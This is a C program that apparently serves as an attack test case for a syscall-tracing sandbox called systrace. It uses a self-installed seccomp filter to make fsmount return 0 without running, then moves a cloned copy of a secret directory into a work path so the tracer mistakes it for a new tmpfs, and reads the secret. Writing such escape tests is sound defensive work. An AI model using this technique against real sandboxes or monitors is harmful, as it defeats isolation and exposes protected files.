/* skip_detached.c SECRET WORK: an fsmount the program's own seccomp filter answered with errno
 * 0 -- under systrace --attach -- taken as run, its "descriptor" 0 noted as the detached new
 * file system it would have made (notes37; review 35's open item).
 *
 * Without the prefilter a call stops at its entry before the kernel runs the task's own
 * filters; SECCOMP_RET_ERRNO with errno 0 makes the call return 0, never run.  The engine
 * notes a detached mount by the identity of the mount its result's descriptor is on
 * (PathResolver.note_detached): a new file system's (fsmount) is moved into place with its
 * device checked, not compared as a bind's source (red team 49) -- an anonymous device (a
 * tmpfs) showing nothing older.  Here descriptor 0 is a detached copy of SECRET
 * (open_tree(OPEN_TREE_CLONE), noted as such), and the skipped fsmount's 0 noted it again as
 * a new file system: the copy moved onto WORK/out as if it were one.
 *
 * In a new mount namespace (as root, or a user namespace): a filter answering fsmount with
 * errno 0; with $ESC_WAIT_TRACER set it waits for the tracer; open_tree(SECRET,
 * OPEN_TREE_CLONE) dup'd to descriptor 0; fsopen("tmpfs"); fsmount: 0, nothing made;
 * move_mount(0, "", WORK/out); then WORK/out is read.  SECRET should be on a file system with
 * an anonymous device (tmpfs: the test's scene is in /dev/shm).
 * ESCAPED when the secret is read; BLOCKED with the failing step's errno otherwise.
 */
#include "attack.h"

#include <linux/filter.h>
#include <linux/mount.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <stddef.h>
#include <sys/mount.h>
#include <sys/prctl.h>

int main(int argc, char **argv) {
    if (argc < 3)
        usage("skip_detached SECRET WORK");
    const char *secret = argv[1], *work = argv[2];
    char target[4096];
    snprintf(target, sizeof target, "%s/out", work);
    if (unshare(CLONE_NEWNS) < 0) {
        uid_t uid = getuid();
        gid_t gid = getgid();
        if (unshare(CLONE_NEWNS | CLONE_NEWUSER) < 0)
            skipped("unshare: %s", ename(errno));
        map_own_ids(uid, gid);
    }
    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
        skipped("making mounts private: %s", ename(errno));
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_fsmount, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {sizeof code / sizeof code[0], code};
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0 ||
        prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog) < 0)
        blocked("installing the filter: %s", ename(errno));
    wait_for_tracer();
    int tree = (int)syscall(SYS_open_tree, AT_FDCWD, secret, OPEN_TREE_CLONE);
    if (tree < 0) {
        if (errno == ENOSYS)
            skipped("open_tree: %s", ename(errno));
        blocked("open_tree %s: %s", secret, ename(errno));
    }
    if (dup2(tree, 0) < 0)
        blocked("dup2: %s", ename(errno));
    int ctx = (int)syscall(SYS_fsopen, "tmpfs", FSOPEN_CLOEXEC);
    if (ctx < 0)
        blocked("fsopen tmpfs: %s", ename(errno));
    long made = syscall(SYS_fsmount, ctx, FSMOUNT_CLOEXEC, 0);
    if (made != 0)
        blocked("fsmount: %ld %s (not skipped)", made, made < 0 ? ename(errno) : "");
    note("fsmount: 0, skipped by the program's own filter");
    if (syscall(SYS_move_mount, 0, "", AT_FDCWD, target, MOVE_MOUNT_F_EMPTY_PATH) < 0)
        blocked("move_mount of descriptor 0 onto %s: %s", target, ename(errno));
    int fd = open(target, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        blocked("open %s: %s", target, ename(errno));
    if (is_secret_fd(fd))
        escaped("read the secret at %s, its copy moved there as a new file system", target);
    blocked("%s opened: no secret in it", target);
}
